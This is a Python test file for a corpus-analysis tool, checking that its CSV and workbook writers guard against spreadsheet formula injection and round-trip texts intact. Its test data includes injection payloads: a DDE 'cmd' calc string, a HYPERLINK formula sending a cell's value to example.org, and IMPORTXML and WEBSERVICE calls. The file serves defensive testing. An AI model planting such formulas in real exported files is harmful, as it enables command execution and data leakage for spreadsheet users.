"""No text in a table that is written is a formula to a spreadsheet, and every text comes back as it was."""

import csv
import io
import json
import re

import pandas as pd
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from analysis import read_text, tokenize
from analysis.core.csv_files import guarded, restored, write_csv
from analysis.core.paths import LEXICONS, ROOT
from analysis.framing.coding import draw_sheet
from analysis.framing.lexicon import read_lexicon
from analysis.framing.sheets import read_sheet, write_sheet
from analysis.publish import page_data
from analysis.publish.loading import load_run
from analysis.publish.tables import as_written, described, read_table, write_table
from analysis.text.reading import metadata

SIGNS = "=+-@＝＋－＠"
# What Excel, LibreOffice Calc and Google Sheets have run, and what looks like it.
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org/?"&A1,"click")',
    '=IMPORTXML("http://example.org","//a")',
    '=WEBSERVICE("http://example.org")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\xa0=1+1",
    "\ufeff=1+1",
    "\0=1+1",
    '"=1+1"',
    "-",
]
KEPT = ["'=1", "''=1", "'tis", "it's", "", "a-b = c", "3 - 1", "'", "x@example.org", "'\n=", "';=", "='", "\u200b'-"]
# Opened where a semicolon or a tab parts cells, or by a program that knows no quotes around line ends.
PARTED = ["rain;=1+1;", 'rain;"=1+1&"', "rain\t=1+1", "rain\n=1+1", "rain;\n\n =1+1", "rain; -5%"]
ALL = [*FORMULAS, *KEPT, *PARTED]

TEXTS = st.text(st.sampled_from([*SIGNS, *"';\"\t\r\n \0\ufeffa,\u2028"]) | st.characters(codec="utf-8"), max_size=12)


def runs(cell):
    """Whether a spreadsheet runs a cell: its first character that shows is a sign."""
    return re.sub(r'^[\s\0"\ufeff\u200b]+', "", cell)[:1] in {*SIGNS}


@given(TEXTS)
@example("'=1").via("a text that has the guard already")
@example("\n\n=")
@example(";'';'=")
def test_every_text_comes_back_and_none_begins_as_a_formula(text):
    safe = guarded(text)
    assert restored(safe) == text
    for cell in re.split(r"[;\t\r\n]", safe):
        assert cell == "" or not runs(cell)


def test_what_is_no_formula_stays_as_it_is():
    for text in ("a-b = c", "3 - 1", "'tis", "x@example.org", "well; he said", "1;2", "", "–5", "…", "#tag"):
        assert guarded(text) == text
    assert [guarded(text) for text in ("-", "@x", "rain;=1", "'+3", " =1")] == [
        "'-",
        "'@x",
        "rain;'=1",
        "''+3",
        " '=1",
    ]


def test_a_long_text_takes_time_by_its_length():
    for text in (" " * 10**6, "\n" * 10**6, "; " * 10**6, "'" * 10**6, ";'" * 10**6):  # each would be 10**12 steps
        assert guarded(text) == text


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_cell_of_a_table_runs_whatever_shards_it(delimiter):
    table = pd.DataFrame({"text": ALL, "=name": pd.Categorical(ALL), "z_score": -0.5, "count": -3})
    written = io.StringIO()
    write_csv(table, written)
    rows = list(csv.reader(io.StringIO(written.getvalue(), newline=""), delimiter=delimiter))
    cells = [cell for row in rows for cell in re.split(r"[\r\n]", "\n".join(row))]
    for cell in cells:
        assert not runs(cell) or re.match(r"-(0\.5|3)\b", cell), (delimiter, cell)
    if delimiter == ",":
        assert rows[0] == ["text", "'=name", "z_score", "count"]
        assert {tuple(row[2:]) for row in rows[1:]} == {("-0.5", "-3")}


def awkward():
    texts = [*filter(None, ALL), "a\rb", "\r\n", '"\r"', "a\r\n=b"]
    return pd.DataFrame({"doc_id": texts, "=1+1": texts[::-1], "mixed": [*texts[:-2], None, "-2"], "z": -0.5})


def test_a_table_is_drawn_as_it_was():
    pd.testing.assert_frame_equal(as_written(awkward()), awkward(), check_dtype=False)
    text = io.StringIO()
    write_csv(awkward(), text)
    read = read_table(io.StringIO(text.getvalue()), described(awkward())["columns"])
    assert read["doc_id"].tolist() == awkward()["doc_id"].tolist()
    assert read["z"].tolist() == [-0.5] * len(awkward())


@pytest.fixture
def run(tmp_path):
    """A finished run of one table."""
    folder = tmp_path / "run"
    (folder / "framing").mkdir(parents=True)
    write_table(awkward(), folder / "framing" / "awkward", caption="c")
    frames = pd.DataFrame({"frame": ["-a", "'=b"], "label": ["=A", "+B"]})
    write_table(frames, folder / "framing" / "frames", caption="c")
    outputs = [{"path": f"framing/{name}.csv", "sha256": "0" * 64, "bytes": 0} for name in ("awkward", "frames")]
    made = {"lafz": "0.1.0", "source": "", "versions": {}, "parameters": {"framing": {"corpus": "x"}}}
    (folder / "manifest.json").write_text(json.dumps({"inputs": [], "outputs": outputs, **made}))
    return folder


def test_a_run_is_read_as_it_was(run):
    found = load_run(run)["awkward"]
    assert found.columns.tolist() == awkward().columns.tolist()
    assert found["=1+1"].tolist() == awkward()["=1+1"].tolist()


def test_the_page_has_the_texts_as_they_were(run):
    path = run / "framing" / "awkward.csv"
    columns = described(awkward())["columns"]
    assert [row[0] for row in page_data.table_rows(path, columns)] == awkward()["doc_id"].tolist()
    assert [frame[:2] for frame in page_data._frames(run)] == [["-a", "=A"], ["'=b", "+B"]]
    spans = pd.DataFrame({"doc_id": ["-a.txt"], "start": [1], "end": [2], "frame": ["=b"]})
    write_table(spans, run / "framing" / "spans", caption="c")
    found = page_data._places(run / "framing" / "spans.csv", ["frame"], {"-a.txt": 0}, [None])
    assert found == {"document": [0], "start": [1], "end": [2], "frame": {"values": ["=b"], "codes": [0]}}


def test_a_table_that_was_written_is_read_as_a_users_table_too(run):
    read = metadata.read_table(run / "framing" / "frames.csv")
    assert read.to_dict("list") == {"frame": ["-a", "'=b"], "label": ["=A", "+B"]}


def test_the_line_in_the_documentation_gives_the_texts_back(run):
    page = (ROOT / "docs" / "tables.md").read_text(encoding="utf-8")
    line = re.search(r"```\n(table = .*?)  # pandas\n", page)[1]
    call = re.fullmatch(r"table = table\.replace\(r'''(.*)''', r\"(.*)\", regex=True\)", line)
    read = pd.read_csv(run / "framing" / "awkward.csv", keep_default_na=False)
    read = read.replace(call[1], call[2], regex=True)
    assert read["doc_id"].tolist() == awkward()["doc_id"].tolist()
    assert read["z"].tolist() == [-0.5] * len(read)


# --- sheets for coders


LEXICON = read_lexicon(LEXICONS / "security_communication.yml")


def drawn():
    said = [f'He {sign}said. ;{sign}HYPERLINK("x") rained' for sign in SIGNS]
    tokens = tokenize(read_text("\n\n".join(["=1+1 rained.", "-5% of it snowed.", "@the_council met.", *said])))
    return draw_sheet(tokens, LEXICON, size=20)


def coded(rows):
    place = rows[0].index("coder_1")
    return [rows[0], *([*row[:place], "none", *row[place + 1 :]] for row in rows[1:])]


def test_no_cell_of_a_coding_sheet_runs_and_it_is_read_back(tmp_path):
    sheet = drawn()
    assert any(runs(sentence) for sentence in sheet["sentence"])
    file, _, book = write_sheet(sheet, tmp_path / "s.csv", LEXICON)
    for path in (file, book):
        text = path.read_text(encoding="utf-8-sig")
        for delimiter in ",;\t":
            for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
                assert not [cell for cell in row if runs(cell)]
    with file.open(encoding="utf-8-sig", newline="") as stream:
        rows = coded(list(csv.reader(stream)))
    with file.open("w", encoding="utf-8-sig", newline="") as stream:
        csv.writer(stream).writerows(rows)
    found = read_sheet(file, LEXICON)
    assert found["sentence"].tolist() == sheet["sentence"].tolist()
    assert set(found["frame"]) == {"none"}


def test_a_cell_of_a_workbook_is_a_text(tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    file = write_sheet(drawn(), tmp_path / "s.xlsx", LEXICON)[0]
    cells = [cell for sheet in openpyxl.load_workbook(file) for row in sheet.iter_rows() for cell in row]
    texts = [cell for cell in cells if isinstance(cell.value, str)]
    assert {cell.data_type for cell in texts} == {"s"}
    assert all(cell.quotePrefix for cell in texts if runs(cell.value))
    assert any(runs(cell.value) for cell in texts)


# --- the command line


def test_the_pairs_of_documents_are_guarded(typed, tmp_path):
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    said = "The council met on Monday and said that the plan will be carried out by the forum in the north.\n"
    for name in ("=cmd.txt", "-a.txt"):
        (corpus / name).write_text(said)
    done = typed("pairs", corpus, "--out", tmp_path / "pairs.csv")
    assert done.status == 0, done.err
    rows = list(csv.reader((tmp_path / "pairs.csv").open(newline="")))
    assert sorted(rows[1][:2]) == ["'-a", "'=cmd"]
